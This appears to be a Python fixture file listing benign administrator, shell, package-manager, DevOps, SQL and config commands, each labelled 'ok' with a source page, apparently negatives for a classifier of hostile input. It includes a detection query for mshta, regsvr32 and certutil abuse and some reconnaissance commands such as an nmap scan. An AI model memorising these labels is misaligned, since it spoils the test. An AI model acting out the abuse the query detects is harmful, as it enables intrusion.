        "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4740; StartTime=(Get-Date).AddHours(-24)} | Select-Object TimeCreated, @{n='User';e={$_.Properties[0].Value}}",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_profiles",
        "if (!(Test-Path $PROFILE)) { New-Item -Type File -Path $PROFILE -Force }\nnotepad $PROFILE",
    ),
    (
        "https://ohmyposh.dev/docs/installation/prompt",
        'oh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\\paradox.omp.json" | Invoke-Expression',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.archive/compress-archive",
        'Compress-Archive -Path .\\reports\\* -DestinationPath "reports-$(Get-Date -Format yyyyMMdd).zip"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/identity-protection/hello-for-business/",
        "dsregcmd /status | Select-String AzureAdJoined, DomainJoined, WorkplaceJoined",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.security/get-filehash",
        "Get-FileHash .\\Downloads\\ubuntu-24.04.1-desktop-amd64.iso -Algorithm SHA256",
    ),
]
for page, text in ADMIN_PS:
    ok("admin-powershell", TERM, page, text)

CMD_ADMIN = [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        'robocopy "D:\\Shares\\Finance" "\\\\backup01\\Finance" /MIR /Z /R:2 /W:5 /LOG:C:\\Logs\\robocopy-finance.log',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-use",
        "net use S: \\\\fs01\\shared /persistent:yes",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/netstat",
        "netstat -ano | findstr :443",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/tasklist",
        'tasklist /fi "imagename eq OUTLOOK.EXE"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/taskkill",
        "taskkill /im Teams.exe /f",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/whoami",
        "whoami /priv /fo list",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/chkdsk",
        "chkdsk D: /scan /perf",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/powercfg",
        "powercfg /batteryreport /output %USERPROFILE%\\Desktop\\battery.html",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/icacls",
        'icacls "D:\\Shares\\HR" /grant "CORP\\HR-Staff":(OI)(CI)M',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/sc-query",
        "sc query wuauserv",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/w32tm",
        'w32tm /config /manualpeerlist:"time.corp.local,0x8" /syncfromflags:manual /update\nw32tm /resync',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/nltest",
        "nltest /dsgetdc:corp.local",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/tracert",
        "tracert -d -h 15 vpn.corp-gateway.example.net",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ping",
        "ping -n 20 gateway.corp.local",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/bcdedit",
        "bcdedit /enum firmware",
    ),
    (
        "https://www.bleepingcomputer.com/tutorials/windows-xcopy/",
        "xcopy C:\\Users\\maria\\Documents E:\\Backup\\Documents /E /H /C /I /Y",
    ),
    (
        "https://superuser.com/questions/1800213/list-files-by-size",
        "dir /s /o:-s C:\\Users\\Public\\Videos",
    ),
    (
        "https://superuser.com/questions/1801342/find-text-in-files",
        'findstr /s /i /n "connectionString" *.config',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/manage-bde",
        "manage-bde -protectors -get E: -Type RecoveryPassword > \\\\fs01\\IT\\Bitlocker\\%COMPUTERNAME%-E.txt",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/reg-query",
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v UBR',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wevtutil",
        "wevtutil qe System /c:20 /rd:true /f:text",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/setx",
        'setx JAVA_HOME "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.13.11-hotspot"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/mklink",
        'mklink /D "C:\\Users\\dev\\repos" "D:\\repos"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/arp",
        "arp -a -N 10.30.2.14",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
        "certutil -hashfile C:\\Users\\dev\\Downloads\\node-v22.12.0-x64.msi SHA256",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/shutdown",
        'shutdown /r /t 600 /c "Patch window: saving your work is recommended"',
    ),
]
for page, text in CMD_ADMIN:
    ok("admin-cmd", TERM, page, text)

# ----------------------------------------------------------------------------------------------
# Shell one-liners, package managers, containers, Kubernetes and git
# ----------------------------------------------------------------------------------------------

SHELL = [
    (
        "https://unix.stackexchange.com/questions/783012/find-large-files",
        "find / -xdev -type f -size +500M -exec ls -lh {} \\; 2>/dev/null | sort -k5 -h",
    ),
    (
        "https://unix.stackexchange.com/questions/783311/disk-usage-per-directory",
        "du -sh /var/* 2>/dev/null | sort -rh | head -15",
    ),
    (
        "https://askubuntu.com/questions/1502233/which-process-uses-port",
        "sudo ss -tlnp | grep ':8080'",
    ),
    (
        "https://askubuntu.com/questions/1503120/journalctl-since-boot",
        "journalctl -u nginx --since '1 hour ago' --no-pager",
    ),
    (
        "https://wiki.archlinux.org/title/Systemd",
        "systemctl list-units --type=service --state=failed",
    ),
    ("https://wiki.archlinux.org/title/Pacman", "sudo pacman -Syu"),
    ("https://wiki.archlinux.org/title/Pacman/Tips_and_tricks", "sudo paccache -rk2"),
    (
        "https://www.cyberciti.biz/faq/linux-unix-tar-gz-extract/",
        "tar -xzvf backup-2026-11-30.tar.gz -C /srv/restore",
    ),
    (
        "https://www.cyberciti.biz/faq/rsync-exclude-files/",
        "rsync -avz --delete --exclude 'node_modules' ./site/ deploy@web01:/var/www/site/",
    ),
    (
        "https://www.cyberciti.biz/faq/how-to-use-sshpass/",
        "ssh -J bastion.corp.example admin@10.20.4.11",
    ),
    ("https://www.ssh.com/academy/ssh/keygen", 'ssh-keygen -t ed25519 -C "maria@laptop-2026"'),
    (
        "https://www.ssh.com/academy/ssh/copy-id",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@build02",
    ),
    (
        "https://stackoverflow.com/questions/79200771/grep-recursive-exclude-dir",
        "grep -rn --exclude-dir={.git,node_modules,dist} 'TODO' .",
    ),
    (
        "https://stackoverflow.com/questions/79211003/sed-replace-in-place",
        "sed -i 's/http:\\/\\/old-api.internal/https:\\/\\/api.internal/g' config/*.yaml",
    ),
    (
        "https://stackoverflow.com/questions/79218844/awk-sum-column",
        "awk -F, 'NR>1 {sum += $4} END {printf \"%.2f\\n\", sum}' sales-november.csv",
    ),
    (
        "https://stackoverflow.com/questions/79222019/xargs-parallel",
        "ls *.png | xargs -P 4 -I{} convert {} -resize 50% small/{}",
    ),
    (
        "https://jqlang.github.io/jq/manual/",
        "curl -s https://api.github.com/repos/jqlang/jq/releases | jq -r '.[0:5][] | \"\\(.tag_name) \\(.published_at)\"'",
    ),
    (
        "https://jqlang.github.io/jq/manual/",
        "jq '.items[] | select(.status.phase != \"Running\") | .metadata.name' pods.json",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-use-cron-to-automate-tasks-ubuntu-1804",
        "0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/ufw-essentials-common-firewall-rules-and-commands",
        "sudo ufw allow from 203.0.113.0/24 to any port 22 proto tcp",
    ),
    (
        "https://certbot.eff.org/instructions",
        "sudo certbot --nginx -d shop.example.org -d www.shop.example.org",
    ),
    (
        "https://nginx.org/en/docs/beginners_guide.html",
        "sudo nginx -T 2>/dev/null | grep -n server_name",
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -h db01 -U app -Fc appdb > appdb-$(date +%F).dump",
    ),
    (
        "https://dev.mysql.com/doc/refman/8.4/en/mysqldump.html",
        "mysqldump --single-transaction --routines -u backup -p shopdb | gzip > shopdb.sql.gz",
    ),
    (
        "https://redis.io/docs/latest/operate/oss_and_stack/management/",
        "redis-cli -h cache01 INFO memory | grep used_memory_human",
    ),
    (
        "https://www.openssl.org/docs/man3.0/man1/openssl-x509.html",
        "openssl x509 -in server.crt -noout -subject -issuer -dates",
    ),
    (
        "https://www.openssl.org/docs/man3.0/man1/openssl-s_client.html",
        "openssl s_client -connect mail.example.org:993 -servername mail.example.org </dev/null 2>/dev/null | openssl x509 -noout -enddate",
    ),
    (
        "https://ffmpeg.org/ffmpeg.html",
        "ffmpeg -i talk-recording.mkv -c:v libx264 -crf 23 -preset medium -c:a aac -b:a 128k talk.mp4",
    ),
    (
        "https://imagemagick.org/script/mogrify.php",
        "mogrify -path web/ -resize 1200x1200\\> -strip -quality 82 originals/*.jpg",
    ),
    (
        "https://www.gnu.org/software/bash/manual/bash.html",
        'for f in *.txt; do mv -- "$f" "${f%.txt}.md"; done',
    ),
    (
        "https://www.gnu.org/software/coreutils/manual/",
        "sha256sum -c SHA256SUMS 2>/dev/null | grep OK",
    ),
    (
        "https://help.ubuntu.com/community/SwapFaq",
        "sudo fallocate -l 6G /swap2 && sudo chmod 600 /swap2 && sudo mkswap /swap2 && sudo swapon --priority 5 /swap2",
    ),
    (
        "https://www.raspberrypi.com/documentation/computers/os.html",
        "sudo apt update && sudo apt full-upgrade -y && sudo reboot",
    ),
    ("https://docs.fedoraproject.org/en-US/quick-docs/dnf/", "sudo dnf upgrade --refresh"),
    (
        "https://learn.microsoft.com/en-us/cli/azure/vm",
        "az vm list -d -o table --query \"[?powerState=='VM running'].{Name:name, RG:resourceGroup}\"",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
        "aws s3 sync ./public s3://static-site-prod --delete --cache-control max-age=3600",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/ec2/describe-instances.html",
        "aws ec2 describe-instances --filters Name=tag:env,Values=staging --query 'Reservations[].Instances[].[InstanceId,State.Name]' --output table",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/compute/ssh",
        "gcloud compute ssh build-runner-2 --zone europe-west1-b --tunnel-through-iap",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform plan -var-file=env/staging.tfvars -out=staging.plan",
    ),
    (
        "https://docs.ansible.com/ansible/latest/cli/ansible-playbook.html",
        "ansible-playbook -i inventories/prod site.yml --limit webservers --check --diff",
    ),
    ("https://www.tecmint.com/lsof-command-examples/", "sudo lsof +L1"),
    ("https://www.tecmint.com/tcpdump-command-examples/", "sudo tcpdump -i eth0 -nn port 53 -c 50"),
    ("https://www.tecmint.com/dig-command-examples/", "dig +short MX example.org"),
    ("https://www.tecmint.com/nmap-command-examples/", "nmap -sV -p 22,80,443 192.168.10.0/24"),
    ("https://explainshell.com/", "ps aux --sort=-%mem | head -n 10"),
    ("https://www.baeldung.com/linux/watch-command", "watch -n 2 'df -h /data'"),
    (
        "https://www.baeldung.com/linux/curl-http-headers",
        "curl -sI https://www.example.org | grep -i '^cache-control'",
    ),
    (
        "https://www.baeldung.com/linux/wget-mirror",
        "wget --mirror --convert-links --page-requisites --no-parent https://docs.example.org/v2/",
    ),
    (
        "https://support.apple.com/guide/terminal/welcome/mac",
        "defaults write com.apple.finder ShowPathbar -bool true && defaults write com.apple.finder ShowStatusBar -bool true && killall Finder",
    ),
    ("https://support.apple.com/en-us/102581", "softwareupdate --history | head -15"),
    ("https://ss64.com/mac/pmset.html", 'pmset -g log | grep -E "Sleep|Wake" | tail -20'),
    ("https://ss64.com/mac/diskutil.html", "diskutil list external"),
    (
        "https://ss64.com/mac/mdfind.html",
        "mdfind -onlyin ~/Documents 'kMDItemFSName == \"*invoice*\"c'",
    ),
    (
        "https://www.macworld.com/article/screenshot-location.html",
        "defaults write com.apple.screencapture type jpg && defaults write com.apple.screencapture disable-shadow -bool true && killall SystemUIServer",
    ),
    (
        "https://tldr.inbrowser.app/pages/common/tmux",
        "tmux new -s deploy -d && tmux attach -t deploy",
    ),
    (
        "https://www.shellcheck.net/wiki/SC2086",
        'for host in $(cat hosts.txt); do ssh "$host" uptime; done',
    ),
]
for page, text in SHELL:
    ok("shell-oneliner", TERM, page, text)

PKG = [
    ("https://pypi.org/project/requests/", "pip install requests==2.32.3"),
    (
        "https://docs.astral.sh/uv/guides/projects/",
        "uv init weather-cli && cd weather-cli && uv add httpx rich",
    ),
    ("https://docs.astral.sh/ruff/installation/", "uv tool install ruff"),
    ("https://python-poetry.org/docs/basic-usage/", "poetry add --group dev pytest pytest-cov"),
    ("https://pipx.pypa.io/stable/", "pipx install pre-commit && pre-commit install"),
    (
        "https://docs.conda.io/projects/conda/en/latest/user-guide/tasks/manage-environments.html",
        "conda create -n geo python=3.12 geopandas -c conda-forge",
    ),
    (
        "https://www.npmjs.com/package/typescript",
        "npm install --save-dev typescript@5.7 tsx @types/node@22",
    ),
    ("https://pnpm.io/cli/add", "pnpm add -D vitest@3 @vitest/ui happy-dom"),
    ("https://yarnpkg.com/cli/add", "yarn add @tanstack/react-query@5 zustand"),
    ("https://vite.dev/guide/", "npm create vite@latest my-dashboard -- --template react-ts"),
    (
        "https://nextjs.org/docs/app/getting-started/installation",
        "npx create-next-app@latest shop-frontend --typescript --eslint --app",
    ),
    (
        "https://docs.npmjs.com/cli/v10/commands/npm-audit",
        "npm audit --omit=dev --audit-level=high",
    ),
    ("https://bun.sh/docs/cli/add", "bun add zod hono"),
    (
        "https://doc.rust-lang.org/cargo/commands/cargo-add.html",
        "cargo add serde --features derive && cargo add tokio --features full",
    ),
    (
        "https://crates.io/crates/cargo-watch",
        "cargo install cargo-deny --locked && cargo deny check licenses",
    ),
    ("https://go.dev/ref/mod", "go get github.com/spf13/cobra@v1.8.1 && go mod tidy"),
    (
        "https://pkg.go.dev/golang.org/x/tools/gopls",
        "go install golang.org/x/vuln/cmd/govulncheck@latest && govulncheck ./...",
    ),
    ("https://formulae.brew.sh/formula/wget", "brew install wget2 aria2"),
    ("https://formulae.brew.sh/cask/visual-studio-code", "brew install --cask rectangle stats"),
    ("https://docs.brew.sh/FAQ", "brew bundle dump --file=~/dotfiles/Brewfile --force --describe"),
    ("https://packages.ubuntu.com/noble/htop", "sudo apt install -y htop ncdu tree"),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "sudo apt-get install docker-ce docker-ce-cli containerd.io docker-buildx-plugin docker-compose-plugin",
    ),
    (
        "https://chocolatey.org/packages/7zip",
        "choco install 7zip.install notepadplusplus.install -y --no-progress",
    ),
    ("https://scoop.sh/#/apps?q=ripgrep", "scoop install ripgrep fzf delta"),
    ("https://community.chocolatey.org/packages/googlechrome", "choco upgrade googlechrome -y"),
    ("https://rubygems.org/gems/rails", "gem install bundler -v 2.5.23 && bundle install --jobs 4"),
    (
        "https://getcomposer.org/doc/03-cli.md",
        "composer require --dev phpstan/phpstan:^2.0 && vendor/bin/phpstan analyse src",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-add-package",
        "dotnet add package Serilog.AspNetCore --version 8.0.3",
    ),
    ("https://maven.apache.org/guides/getting-started/", "mvn -q clean verify -DskipITs"),
    (
        "https://docs.gradle.org/current/userguide/command_line_interface.html",
        "./gradlew build --scan",
    ),
    (
        "https://flathub.org/apps/org.gimp.GIMP",
        "flatpak install flathub org.inkscape.Inkscape org.kde.krita",
    ),
    ("https://snapcraft.io/postman", "sudo snap install postman"),
    (
        "https://cran.r-project.org/web/packages/tidyverse/index.html",
        'install.packages(c("tidyverse", "janitor"))',
    ),
    (
        "https://docs.julialang.org/en/v1/stdlib/Pkg/",
        'using Pkg; Pkg.add(["DataFrames", "CSV", "Plots"])',
    ),
    (
        "https://code.visualstudio.com/docs/editor/command-line",
        "code --install-extension charliermarsh.ruff --install-extension tamasfe.even-better-toml",
    ),
    ("https://docs.flutter.dev/get-started/install", "flutter doctor -v"),
]
for page, text in PKG:
    ok("package-manager", TERM, page, text)

DEVOPS = [
    (
        "https://docs.docker.com/reference/cli/docker/container/run/",
        "docker run -d --name pg -e POSTGRES_PASSWORD=devpass -p 55432:5432 -v shopdb:/var/lib/postgresql/data postgres:16-alpine",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/exec/",
        "docker exec -it pg psql -U postgres",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker volume ls -qf dangling=true | grep -v shopdb | xargs -r docker volume rm",
    ),
    (
        "https://docs.docker.com/compose/reference/",
        "docker compose up -d --build && docker compose logs -f api",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/buildx/build/",
        "docker buildx build --platform linux/amd64,linux/arm64 -t registry.example.org/team/api:1.8.2 --push .",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/ls/",
        "docker ps --format 'table {{.Names}}\\t{{.Status}}\\t{{.Ports}}'",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/logs/",
        "docker logs --since 30m --tail 200 worker-3",
    ),
    (
        "https://hub.docker.com/_/nginx",
        'docker run --rm -p 8080:80 -v "$PWD/site":/usr/share/nginx/html:ro nginx:alpine',
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -n shop --field-selector=status.phase=Pending -o wide",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl logs deploy/checkout -n shop --since=15m -f",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_rollout/",
        "kubectl rollout restart deployment/api -n staging && kubectl rollout status deployment/api -n staging",
    ),
    (
        "https://kubernetes.io/docs/tasks/debug/debug-application/debug-running-pod/",
        "kubectl describe pod checkout-7c9f8d6b5-x2k4q -n shop",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_port-forward/",
        "kubectl port-forward svc/kibana-kb-http 5601 -n logging",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_top/",
        "kubectl top nodes && kubectl top pods -n shop --sort-by=memory",
    ),
    (
        "https://kubernetes.io/docs/tasks/configmap-secret/managing-secret-using-kubectl/",
        "kubectl create secret generic db-creds --from-literal=username=app --from-literal=password='S3cure!pass' -n shop --dry-run=client -o yaml",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_config/",
        "kubectl config use-context prod-eu && kubectl config current-context",
    ),
    (
        "https://helm.sh/docs/helm/helm_upgrade/",
        "helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress-nginx --create-namespace -f values-prod.yaml",
    ),
    (
        "https://helm.sh/docs/helm/helm_repo_add/",
        "helm repo add jetstack https://charts.jetstack.io && helm search repo jetstack/cert-manager --versions | head",
    ),
    ("https://k9scli.io/topics/commands/", "k9s -n shop --context prod-eu"),
    (
        "https://argo-cd.readthedocs.io/en/stable/user-guide/commands/argocd_app_sync/",
        "argocd app sync shop-frontend --prune",
    ),
    ("https://git-scm.com/docs/git-rebase", "git fetch origin && git rebase -i origin/main"),
    (
        "https://git-scm.com/docs/git-log",
        "git log --since='2 weeks ago' --author=maria --pretty=format:'%h %ad %s' --date=short",
    ),
    (
        "https://git-scm.com/docs/git-stash",
        "git stash push -m 'wip: login form' && git switch hotfix/1.4.2",
    ),
    (
        "https://git-scm.com/docs/git-bisect",
        "git bisect start HEAD v2.7.1 && git bisect run pytest -x tests/test_export.py",
    ),
    (
        "https://git-scm.com/docs/git-worktree",
        "git worktree add ../review-482 origin/feature/482-export",
    ),
    (
        "https://git-scm.com/docs/git-reset",
        "git reset --soft HEAD~3 && git commit -m 'checkout: squash review fixes'",
    ),
    ("https://git-scm.com/docs/git-clean", "git clean -ndX -- build/"),
    (
        "https://docs.github.com/en/get-started/getting-started-with-git/managing-remote-repositories",
        "git remote set-url origin git@github.com:acme-shop/storefront.git",
    ),
    (
        "https://git-scm.com/docs/git-config",
        'git config --global user.name "Maria Keller" && git config --global user.email maria.keller@example.org',
    ),
    ("https://git-scm.com/docs/git-cherry-pick", "git cherry-pick -x 4e1a9c2"),
    (
        "https://git-scm.com/docs/git-tag",
        "git tag -a v1.9.0 -m 'Release 1.9.0' && git push origin v1.9.0",
    ),
    ("https://git-scm.com/docs/git-blame", "git blame -w -C -L 212,240 src/billing/tax_rules.py"),
    ("https://cli.github.com/manual/gh_pr_checkout", "gh pr checkout 1287"),
    (
        "https://cli.github.com/manual/gh_run_watch",
        "gh run list --workflow ci.yml --branch main -L 5",
    ),
    (
        "https://cli.github.com/manual/gh_repo_clone",
        "gh repo clone acme-shop/storefront -- --depth 1",
    ),
    (
        "https://docs.gitlab.com/user/project/push_options/",
        "git push -o merge_request.create -o merge_request.target=main origin feature/cart-badge",
    ),
    ("https://git-lfs.com/", "git lfs install && git lfs track 'assets/video/*.mp4'"),
    (
        "https://podman.io/docs",
        "podman run --rm -it -v .:/src:Z registry.fedoraproject.org/fedora-toolbox:41 bash",
    ),
    (
        "https://minikube.sigs.k8s.io/docs/start/",
        "minikube start -p review --kubernetes-version=v1.31.2 --addons=ingress",
    ),
    (
        "https://kind.sigs.k8s.io/docs/user/quick-start/",
        "kind load docker-image registry.example.org/team/api:1.8.2 --name dev",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/image/ls/",
        "docker image ls --filter reference='registry.example.org/team/*' --format '{{.Repository}}:{{.Tag}} {{.Size}}'",
    ),
    (
        "https://stackoverflow.com/questions/79190112/copy-file-from-container",
        "docker cp api-1:/app/logs/error.log ./error.log",
    ),
    (
        "https://kubernetes.io/docs/tasks/run-application/scale-stateful-set/",
        "kubectl scale statefulset redis --replicas=3 -n cache",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/jsonpath/",
        'kubectl get nodes -o jsonpath=\'{range .items[*]}{.metadata.name}{"\\t"}{.status.nodeInfo.osImage}{"\\n"}{end}\'',
    ),
    ("https://stern.github.io/", "stern 'checkout-.*' -n shop --since 10m"),
]
for page, text in DEVOPS:
    ok("devops", TERM, page, text)

# ----------------------------------------------------------------------------------------------
# SQL, configuration, console JavaScript a developer types, URLs
# ----------------------------------------------------------------------------------------------

SQL = [
    "SELECT customer_id, SUM(total) AS revenue\nFROM orders\nWHERE created_at >= DATE '2026-11-01'\nGROUP BY customer_id\nORDER BY revenue DESC\nLIMIT 20;",
    "UPDATE subscriptions SET status = 'cancelled', cancelled_at = now() WHERE id = 48812 AND status = 'active';",
    "CREATE INDEX CONCURRENTLY idx_shipments_carrier_status ON shipments (carrier, status) WHERE delivered_at IS NULL;",
    "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM events WHERE tenant_id = 42 AND occurred_at > now() - interval '1 day';",
    "SELECT pid, usename, state, query_start, left(query, 80) FROM pg_stat_activity WHERE state <> 'idle' ORDER BY query_start;",
    "ALTER TABLE invoices ADD COLUMN due_date date;\nUPDATE invoices SET due_date = issued_at + 30;",
    "WITH ranked AS (\n  SELECT e.*, ROW_NUMBER() OVER (PARTITION BY dept_id ORDER BY salary DESC) AS rn\n  FROM employees e\n)\nSELECT * FROM ranked WHERE rn <= 3;",
    "DELETE FROM sessions WHERE last_seen < NOW() - INTERVAL 30 DAY;",
    "SHOW VARIABLES LIKE 'innodb_buffer_pool_size';",
    "SELECT TOP (50) name, create_date FROM sys.databases ORDER BY create_date DESC;",
    "BACKUP DATABASE [Payroll] TO DISK = N'E:\\Backups\\Payroll_20261207.bak' WITH COMPRESSION, CHECKSUM, STATS = 10;",
    "SELECT s.name AS schema_name, t.name AS table_name, p.rows FROM sys.tables t JOIN sys.schemas s ON t.schema_id = s.schema_id JOIN sys.partitions p ON t.object_id = p.object_id AND p.index_id IN (0,1) ORDER BY p.rows DESC;",
    "GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO analyst_ro;",
    "SELECT date_trunc('week', signup_at) AS week, count(*) FROM users GROUP BY 1 ORDER BY 1;",
    "INSERT INTO feature_flags (name, enabled, rollout_percent) VALUES ('new_checkout', true, 10)\nON CONFLICT (name) DO UPDATE SET enabled = EXCLUDED.enabled, rollout_percent = EXCLUDED.rollout_percent;",
    "SELECT table_name, pg_size_pretty(pg_total_relation_size(quote_ident(table_name))) FROM information_schema.tables WHERE table_schema = 'public' ORDER BY pg_total_relation_size(quote_ident(table_name)) DESC;",
    "SELECT COUNT(*) FILTER (WHERE status = 'failed') * 100.0 / COUNT(*) AS failure_pct FROM payments WHERE created_at::date = CURRENT_DATE;",
    "VACUUM (VERBOSE, ANALYZE) orders;",
    "SELECT json_extract(payload, '$.user.email') AS email FROM webhook_log WHERE source = 'stripe' ORDER BY id DESC LIMIT 10;",
    "index=wineventlog EventCode=4625 | stats count by Account_Name, src_ip | where count > 10",
    "SecurityEvent\n| where EventID == 4688\n| where CommandLine has_any ('mshta', 'regsvr32', 'certutil')\n| project TimeGenerated, Computer, Account, CommandLine",
    "MATCH (p:Person)-[:WORKS_AT]->(c:Company {name: 'Acme'}) RETURN p.name, p.title ORDER BY p.name",
    "db.orders.aggregate([{ $match: { status: 'shipped' } }, { $group: { _id: '$carrier', n: { $sum: 1 } } }])",
    "SELECT * FROM `analytics.events_2026*` WHERE event_name = 'purchase' AND _TABLE_SUFFIX BETWEEN '1101' AND '1130'",
]
SQL_PAGES = [
    "https://www.postgresql.org/docs/current/sql-select.html",
    "https://stackoverflow.com/questions/79230114/",
    "https://dba.stackexchange.com/questions/341220/",
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/",
    "https://dev.mysql.com/doc/refman/8.4/en/",
    "https://wiki.corp.example/data/runbooks",
]
for i, text in enumerate(SQL):
    ok("sql", UNK, SQL_PAGES[i % len(SQL_PAGES)], text)

CONFIG = [
    (
        "https://docs.github.com/en/actions/writing-workflows/quickstart",
        "name: CI\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -e .[dev]\n      - run: pytest -q",
    ),
    (
        "https://docs.docker.com/compose/gettingstarted/",
        'services:\n  web:\n    build: .\n    ports:\n      - "8000:8000"\n    environment:\n      - DATABASE_URL=postgres://app:app@db:5432/app\n    depends_on:\n      - db\n  db:\n    image: postgres:17\n    volumes:\n      - dbdata:/var/lib/postgresql/data\nvolumes:\n  dbdata:',
    ),
    (
        "https://nginx.org/en/docs/http/ngx_http_proxy_module.html",
        "location /api/ {\n    proxy_pass http://127.0.0.1:9180/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_read_timeout 60s;\n}",
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 3\n  selector:\n    matchLabels: {app: api}\n  template:\n    metadata:\n      labels: {app: api}\n    spec:\n      containers:\n        - name: api\n          image: registry.example.org/team/api:1.8.2\n          ports: [{containerPort: 8000}]",
    ),
    (
        "https://code.visualstudio.com/docs/getstarted/settings",
        '{\n  "editor.formatOnSave": true,\n  "editor.rulers": [100],\n  "files.trimTrailingWhitespace": true,\n  "python.analysis.typeCheckingMode": "basic"\n}',
    ),
    (
        "https://www.typescriptlang.org/tsconfig/",
        '{\n  "compilerOptions": {\n    "target": "ES2023",\n    "module": "Preserve",\n    "strict": true,\n    "outDir": "dist",\n    "skipLibCheck": true\n  },\n  "include": ["src"]\n}',
    ),
    (
        "https://docs.astral.sh/ruff/configuration/",
        '[tool.ruff]\nline-length = 100\ntarget-version = "py312"\n\n[tool.ruff.lint]\nselect = ["E", "F", "I", "B", "UP"]',
    ),
    (
        "https://www.ssh.com/academy/ssh/config",
        "Host bastion\n    HostName bastion.corp.example\n    User maria\n    IdentityFile ~/.ssh/id_ed25519\n\nHost 10.20.*\n    ProxyJump bastion",
    ),
    (
        "https://git-scm.com/docs/gitignore",
        "node_modules/\ndist/\n.env\n.env.*\n!.env.example\n*.log\n.DS_Store\ncoverage/",
    ),
    (
        "https://editorconfig.org/",
        "root = true\n\n[*]\nindent_style = space\nindent_size = 2\nend_of_line = lf\ninsert_final_newline = true\n\n[*.py]\nindent_size = 4",
    ),
    (
        "https://prometheus.io/docs/prometheus/latest/configuration/configuration/",
        "scrape_configs:\n  - job_name: node\n    scrape_interval: 30s\n    static_configs:\n      - targets: ['node01:9100', 'node02:9100']",
    ),
    (
        "https://caddyserver.com/docs/caddyfile",
        "shop.example.org {\n    encode gzip\n    reverse_proxy localhost:3000\n    log {\n        output file /var/log/caddy/shop.log\n    }\n}",
    ),
    (
        "https://www.freedesktop.org/software/systemd/man/latest/systemd.service.html",
        "[Unit]\nDescription=Report worker\nAfter=network-online.target\n\n[Service]\nUser=reports\nWorkingDirectory=/opt/reports\nExecStart=/opt/reports/.venv/bin/python -m reports.worker\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target",
    ),
    (
        "https://developer.hashicorp.com/terraform/language/resources/syntax",
